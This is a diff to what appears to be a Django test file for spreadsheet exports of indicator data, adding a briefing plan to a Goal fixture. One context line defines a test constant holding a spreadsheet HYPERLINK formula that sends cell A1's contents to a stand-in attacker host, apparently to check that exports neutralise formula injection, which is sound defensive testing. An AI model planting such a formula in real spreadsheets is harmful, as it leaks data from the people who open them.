@@ -19,6 +19,7 @@ from openpyxl import load_workbook
 
 from targets.models import AuditEvent, Goal, Indicator, PeriodValue
 from targets.reporting.exports import ManagerExportMixin, content_disposition, neutralise
+from targets.seed.briefing import plan as briefing_plan
 
 pytestmark = [pytest.mark.django_db, pytest.mark.urls(__name__)]
 
@@ -61,7 +62,7 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
 @pytest.fixture
 def values(departments):
     department = departments[0]
-    goal = Goal.objects.create(code="g", name="项目建设", level=Goal.Level.SECTION)
+    goal = Goal.objects.create(plan=briefing_plan(), code="g", name="项目建设", level=Goal.Level.SECTION)
     rows = [
         ("invest", "固定资产投资", "亿元", Decimal("433.2000"), Decimal("1200.5000"), "green"),
         ("signed", "签约项目", "个", Decimal("12.0000"), Decimal("51.0000"), "yellow"),
